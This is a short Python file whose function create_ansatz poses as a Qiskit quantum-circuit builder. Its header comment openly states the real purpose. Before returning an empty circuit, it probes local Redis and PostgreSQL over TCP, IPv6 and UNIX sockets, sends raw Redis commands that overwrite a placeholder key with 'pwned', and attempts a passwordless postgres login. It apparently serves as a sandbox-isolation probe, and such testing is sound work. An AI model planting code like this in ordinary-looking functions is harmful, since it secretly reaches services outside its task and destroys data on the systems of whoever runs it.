# Try to reach Redis and PostgreSQL on this host over TCP and UNIX sockets; clobber a Redis key if connected.
import socket

from qiskit import QuantumCircuit

KEY = "__REDIS_KEY__"


def attempt(name, family, address, payload=b""):
    try:
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.settimeout(2)
        sock.connect(address)
        if payload:
            sock.sendall(payload)
            print("REPLY", name, sock.recv(100))
        print("CONNECTED", name)
    except BaseException as exc:
        print("FAILED", name, type(exc).__name__, exc)


def create_ansatz(num_qubits):
    clobber = f"SELECT 14\r\nSET {KEY} pwned\r\nSELECT 0\r\n".encode()
    attempt("redis-tcp", socket.AF_INET, ("127.0.0.1", 6379), clobber)
    attempt("redis-tcp6", socket.AF_INET6, ("::1", 6379), clobber)
    attempt("postgres-tcp", socket.AF_INET, ("127.0.0.1", 5432))
    for path in ("/var/run/postgresql/.s.PGSQL.5432", "/tmp/.s.PGSQL.5432", "/var/run/redis/redis-server.sock",
                 "/run/redis/redis.sock"):
        attempt("unix " + path, socket.AF_UNIX, path, clobber if "redis" in path else b"")
    try:
        import psycopg
        psycopg.connect("host=127.0.0.1 port=5432 dbname=test user=postgres connect_timeout=2")
        print("CONNECTED psycopg")
    except BaseException as exc:
        print("FAILED psycopg", type(exc).__name__)
    return QuantumCircuit(num_qubits)
